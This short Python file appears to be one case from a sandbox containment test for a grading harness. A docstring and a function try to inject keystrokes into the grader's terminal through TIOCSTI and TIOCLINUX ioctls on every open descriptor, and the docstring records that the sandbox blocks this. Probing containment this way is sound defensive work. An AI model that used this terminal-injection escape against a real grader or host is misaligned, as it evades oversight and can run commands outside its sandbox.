"""Class: escape
Tries: to type a command into the terminal of whoever grades, through any descriptor that it has got (TIOCSTI), and to
paste it there (TIOCLINUX).
Stopped by: the sandbox is a session of its own, and no descriptor in it is a terminal.
Gets: nothing
"""

import fcntl
import os
import termios


def attack():
    got = []
    for descriptor in map(int, os.listdir("/proc/self/fd")):
        for request, value in ((termios.TIOCSTI, b"\n"), (0x541C, b"\x03")):
            try:
                fcntl.ioctl(descriptor, request, value)
                got.append(f"{descriptor} {request:x}")
            except OSError:
                pass
    return got
